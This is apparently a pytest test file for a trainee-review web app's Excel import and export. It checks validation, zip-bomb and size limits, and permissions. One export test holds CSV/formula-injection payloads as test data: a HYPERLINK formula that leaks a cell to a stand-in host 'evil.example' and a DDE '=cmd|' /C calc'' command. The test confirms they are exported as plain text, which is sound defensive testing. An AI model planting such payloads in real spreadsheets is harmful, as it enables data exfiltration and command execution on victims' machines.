"""Trainees imported from .xlsx (a preview first, all or nothing) and results exported to it,
with names that look like formulas kept as text."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from competition.reviews.excel import MAX_IMPORT_BYTES
from tests.reviews.helpers import LECTURE_RUBRIC, build_cohort
from tests.support.errors import assert_error
from tests.support.factories import make_user

HEADING = ("姓名", "工作单位", "荣誉称号", "登录名")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx(rows: list[tuple[Any, ...]], heading: tuple[str, ...] | None = HEADING) -> bytes:
    book = Workbook()
    sheet = book.active
    if heading:
        sheet.append(heading)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(cohort, data: bytes, dry_run: bool = False, api=None, query: str | None = None):
    """POST the file as multipart/form-data, encoded in memory: the test client would spool a
    large body to a temporary file that nobody closes."""
    suffix = query if query is not None else ("?dry_run=1" if dry_run else "")
    file = FileStorage(io.BytesIO(data), filename="学员名单.xlsx", content_type=XLSX)
    boundary, body = encode_multipart({"file": file})
    return (api or cohort.org).call(
        "POST",
        cohort.path("/trainees/import") + suffix,
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def names(cohort) -> list[str]:
    return [t["name"] for t in cohort.org.get(cohort.path("/trainees"))["trainees"]]


GOOD = [
    ("张海峰", "市地铁运营有限公司车辆中心", "全国劳动模范", "zhang"),
    ("李秀梅", "市第一纺织有限公司", "市劳动模范", None),
    ("王志刚", "市供电公司检修分公司", None, ""),
]


# ---------------------------------------------------------------- import
def test_a_dry_run_previews_and_stores_nothing(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    make_user(app, "zhang", "trainee")
    response = upload(cohort, xlsx(GOOD), dry_run=True)
    assert response.status_code == 200, response.get_data(as_text=True)
    body = response.get_json()
    assert body["dry_run"] is True and body["valid"] is True and body["problems"] == []
    assert [(r["row"], r["name"], r["title"], r["username"]) for r in body["rows"]] == [
        (2, "张海峰", "全国劳动模范", "zhang"),
        (3, "李秀梅", "市劳动模范", ""),
        (4, "王志刚", "", ""),
    ]
    assert names(cohort) == []


def test_an_import_enrols_every_row_and_links_logins(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    login_id = make_user(app, "zhang", "trainee")
    response = upload(cohort, xlsx(GOOD))
    assert response.status_code == 201, response.get_data(as_text=True)
    body = response.get_json()
    assert body["created"] == 3
    assert body["trainees"][0]["user_id"] == login_id
    assert names(cohort) == ["张海峰", "李秀梅", "王志刚"]
    audit = cohort.org.get(cohort.path("/audit"))["entries"]
    assert [e["details"]["trainees"] for e in audit if e["action"] == "cohort.import"] == [3]


def test_headings_may_be_in_any_order_with_blank_rows_and_extra_columns(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    heading = ("序号", "单位", "姓名", "备注")
    rows = [
        (1, "市燃气集团", "陈建平", "x"),
        (None, None, None, None),
        (2, "市公交集团", "杨国庆", ""),
    ]
    response = upload(cohort, xlsx(rows, heading))
    assert response.status_code == 201, response.get_data(as_text=True)
    assert names(cohort) == ["陈建平", "杨国庆"]


def test_every_bad_row_is_reported_and_nothing_is_stored(app, client):
    cohort = build_cohort(app, client, trainees=1, experts=1)  # 学员1 of 单位1 exists
    make_user(app, "zhang", "trainee")
    make_user(app, "an_expert", "expert")
    rows = [
        ("张海峰", "市地铁运营有限公司", "全国劳动模范", "zhang"),  # 2: good
        (None, "市第一纺织有限公司", "", ""),  # 3: no name
        ("王志刚", "", "", ""),  # 4: no unit
        ("张海峰", "市地铁运营有限公司", "", ""),  # 5: repeats row 2
        ("刘春燕", "市人民医院", "", "nobody"),  # 6: unknown login
        ("陈建平", "市燃气集团", "", "an_expert"),  # 7: not a trainee login
        ("杨国庆", "x" * 201, "", ""),  # 8: unit too long
        ("学员1", "单位1", "", ""),  # 9: already in the cohort
        ("赵丽娟", "市自来水集团", "", "zhang"),  # 10: login used by row 2
        ("黄建军", "市重型机械厂", "", "trainee1"),  # 11: login linked to 学员1 already
    ]
    data = xlsx(rows)
    preview = upload(cohort, data, dry_run=True).get_json()
    assert preview["valid"] is False
    assert [(p["row"], p["field"]) for p in preview["problems"]] == [
        (3, "name"),
        (4, "unit"),
        (5, "name"),
        (6, "username"),
        (7, "username"),
        (8, "unit"),
        (9, "name"),
        (10, "username"),
        (11, "username"),
    ]
    assert [r["row"] for r in preview["rows"]] == [2]
    assert "第 2 行" in preview["problems"][2]["message"]
    before = cohort.snapshot()
    error = assert_error(upload(cohort, data), 422)
    assert set(error["fields"]) == {
        "rows.3.name",
        "rows.4.unit",
        "rows.5.name",
        "rows.6.username",
        "rows.7.username",
        "rows.8.unit",
        "rows.9.name",
        "rows.10.username",
        "rows.11.username",
    }
    assert "9" in error["message"]
    assert cohort.snapshot() == before


@pytest.mark.parametrize(
    ("data", "status"),
    [
        (b"", 422),
        (b"this is not a spreadsheet", 422),
        (b"PK\x03\x04 truncated zip", 422),
        ("姓名,工作单位\n张三,单位\n".encode(), 422),
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused_clearly(app, client, data, status):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    for dry_run in (True, False):
        error = assert_error(upload(cohort, data, dry_run=dry_run), status, "file")
        assert error["message"]
    assert names(cohort) == []


def test_a_zip_that_is_not_a_workbook_is_refused(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert_error(upload(cohort, out.getvalue()), 422, "file")


def test_a_zip_bomb_is_refused_before_it_is_opened(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (40 * 1024 * 1024))
    assert len(out.getvalue()) < MAX_IMPORT_BYTES
    error = assert_error(upload(cohort, out.getvalue()), 422, "file")
    assert "过大" in error["message"]


def test_a_workbook_without_the_headings_is_refused(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    error = assert_error(upload(cohort, xlsx([("张三", "单位")], ("名字", "公司"))), 422, "file")
    assert "姓名" in error["message"] and "工作单位" in error["message"]
    assert_error(upload(cohort, xlsx([], None)), 422, "file")
    only_heading = upload(cohort, xlsx([]), dry_run=True).get_json()
    assert only_heading["valid"] is False and only_heading["problems"]
    assert_error(upload(cohort, xlsx([])), 422)


def test_a_file_over_the_limit_is_413(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    error = assert_error(upload(cohort, b"PK" + b"\0" * MAX_IMPORT_BYTES), 413, "file")
    assert "KB" in error["message"]
    # Beyond the app's request limit the server refuses before the view runs, same shape.
    assert_error(upload(cohort, b"\0" * (3 * 1024 * 1024)), 413)


def test_an_import_needs_a_file_and_a_plain_dry_run_flag(app, client):
    cohort = build_cohort(app, client, trainees=0, experts=0)
    assert_error(cohort.org.call("POST", cohort.path("/trainees/import")), 422, "file")
    assert_error(upload(cohort, xlsx(GOOD), query="?dry_run=maybe"), 422, "dry_run")
    assert upload(cohort, xlsx(GOOD[1:]), query="?dry_run=0").status_code == 201


def test_only_an_organiser_imports_and_not_into_a_signed_cohort(app, client):
    cohort = build_cohort(app, client, trainees=1, experts=1)
    assert_error(upload(cohort, xlsx(GOOD[1:]), api=cohort.lead), 403)
    assert_error(upload(cohort, xlsx(GOOD[1:]), api=cohort.trainee_logins[0]), 403)
    cohort.review(0, cohort.trainees[0], score=80)
    cohort.lead.post(cohort.path("/sign-off"), status=200)
    assert_error(upload(cohort, xlsx(GOOD[1:])), 409)
    assert_error(upload(cohort, xlsx(GOOD[1:]), dry_run=True), 409)
    assert names(cohort) == ["学员1"]


# ---------------------------------------------------------------- export
def exported(cohort, api=None):
    response = (api or cohort.org).call("GET", cohort.path("/results.xlsx"), status=200)
    assert response.mimetype == XLSX
    assert "attachment" in response.headers["Content-Disposition"]
    return response.data


def test_the_export_lists_the_ranking_and_every_review(app, client):
    cohort = build_cohort(app, client, trainees=3, experts=2, rubric=LECTURE_RUBRIC)
    items = {i["key"]: 90 for i in LECTURE_RUBRIC}
    for expert in range(2):
        cohort.review(expert, cohort.trainees[1], items=items)
        cohort.review(expert, cohort.trainees[0], items={**items, "content": 60})
    data = exported(cohort)
    book = load_workbook(io.BytesIO(data))
    ranking = book["评审结果"]
    assert ranking["A1"].value == "2021年职工工匠研修班"
    assert "尚未签署" in ranking["A2"].value
    rows = [[c.value for c in row] for row in ranking.iter_rows(min_row=5)]
    assert rows[0][:8] == [1, "学员2", "单位2", "市劳动模范", Decimal("90"), "优秀", "是", 2]
    assert rows[1][:2] == [2, "学员1"] and rows[1][4] == Decimal("81")
    assert rows[2][:2] == [None, "学员3"] and rows[2][5] == "未评审"
    assert ranking["E5"].number_format == "0.00"
    details = book["专家评审明细"]
    heading = [c.value for c in details[1]]
    assert heading[:3] == ["学员", "工作单位", "评审专家"]
    assert "教学内容（30%）" in heading and heading[-2:] == ["不足之处", "改进建议"]
    assert details.max_row == 1 + 4


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(1,1)", "=1+1"],
)
def test_a_name_that_looks_like_a_formula_is_exported_as_text(app, client, name):
    cohort = build_cohort(app, client, trainees=0, experts=1)
    trainee = cohort.org.post(
        cohort.path("/trainees"), {"name": name, "unit": "=cmd|' /C calc'!A0", "title": ""}
    )
    cohort.review(0, trainee["id"], score=80, shortcomings="-不足", suggestions="@建议")
    data = exported(cohort)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for sheet in sheets:
            assert b"<f>" not in archive.read(sheet) and b"<f " not in archive.read(sheet)
    book = load_workbook(io.BytesIO(data))
    cell = book["评审结果"]["B5"]
    assert cell.value == name and cell.data_type == "s" and cell.quotePrefix
    unit = book["评审结果"]["C5"]
    assert unit.value == "=cmd|' /C calc'!A0" and unit.data_type == "s"
    details = book["专家评审明细"]
    assert [details["A2"].value, details["E2"].value, details["F2"].value] == [
        name,
        "-不足",
        "@建议",
    ]
    assert details["E2"].quotePrefix and details["F2"].quotePrefix


def test_the_export_of_a_signed_cohort_says_who_signed(app, client):
    cohort = build_cohort(app, client, trainees=1, experts=1)
    cohort.review(0, cohort.trainees[0], score=59)
    cohort.lead.post(cohort.path("/sign-off"), status=200)
    book = load_workbook(io.BytesIO(exported(cohort, cohort.lead)))
    assert "expert1" in book["评审结果"]["A2"].value and "签署" in book["评审结果"]["A2"].value
    assert book["评审结果"]["F5"].value == "不合格" and book["评审结果"]["G5"].value == "否"
